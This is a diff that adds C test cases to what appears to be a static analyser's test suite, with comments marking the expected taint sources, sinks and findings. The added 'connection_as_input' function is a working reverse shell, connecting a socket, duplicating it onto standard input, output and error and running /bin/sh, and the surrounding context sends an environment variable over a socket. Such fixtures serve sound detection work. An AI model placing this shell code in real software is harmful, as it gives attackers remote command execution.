@@ -308,3 +308,19 @@ void environment_as_a_medium(int s)
     setenv("CANDOR_B", "x", 1); //~ ok
     send(s, getenv("CANDOR_A"), 10, 0); //~ source(ENVIRONMENT) ce, sink(egress.socket) cm, finding(file-upload, traced) cm, sink(egress.socket) ce, finding(environment-exfiltration, traced) ce
 }
+
+void connection_as_input(struct sockaddr *to)
+{
+    int s = socket(2, 1, 0);
+    connect(s, to, 16);
+    dup2(s, 0); //~ source(NETWORK) fshell, sink(exec.command) fshell, finding(traced) fshell, capability(EXEC)
+    dup2(s, 1); //~ ok
+    dup2(s, STDERR_FILENO); //~ ok
+    execl("/bin/sh", "sh", 0);
+}
+
+void log_as_input(void)
+{
+    int log = open("/var/log/x", 0);
+    dup2(log, 0); //~ ok
+}
